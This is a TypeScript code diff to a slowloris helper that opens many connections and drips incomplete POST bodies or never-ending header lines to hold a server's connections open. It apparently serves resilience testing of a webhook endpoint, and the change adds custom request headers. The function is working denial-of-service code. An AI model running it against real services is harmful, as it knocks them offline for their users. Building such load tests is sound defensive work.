@@ -59,7 +59,16 @@ export interface Slowloris {
  * `count` connections to `url` that each send a POST's headers, then one byte of a body that
  * never completes (or, for every other one, header lines that never end) every `intervalMs`.
  */
-export function slowloris(url: string, path: string, count: number, intervalMs = 1000): Slowloris {
+export function slowloris(
+  url: string,
+  path: string,
+  count: number,
+  intervalMs = 1000,
+  headers: Record<string, string> = {},
+): Slowloris {
+  const extra = Object.entries(headers)
+    .map(([k, v]) => `${k}: ${v}\r\n`)
+    .join('');
   const u = new URL(url);
   const sockets: Socket[] = [];
   const timers: NodeJS.Timeout[] = [];
@@ -79,7 +88,7 @@ export function slowloris(url: string, path: string, count: number, intervalMs =
     });
     const slowHeaders = i % 2 === 1;
     s.write(
-      `POST ${path} HTTP/1.1\r\nHost: ${u.host}\r\nContent-Type: application/json\r\n` +
+      `POST ${path} HTTP/1.1\r\nHost: ${u.host}\r\nContent-Type: application/json\r\n${extra}` +
         (slowHeaders ? '' : 'Content-Length: 100000\r\n\r\n{"version":"4","alerts":['),
     );
     timers[i] = setInterval(() => {
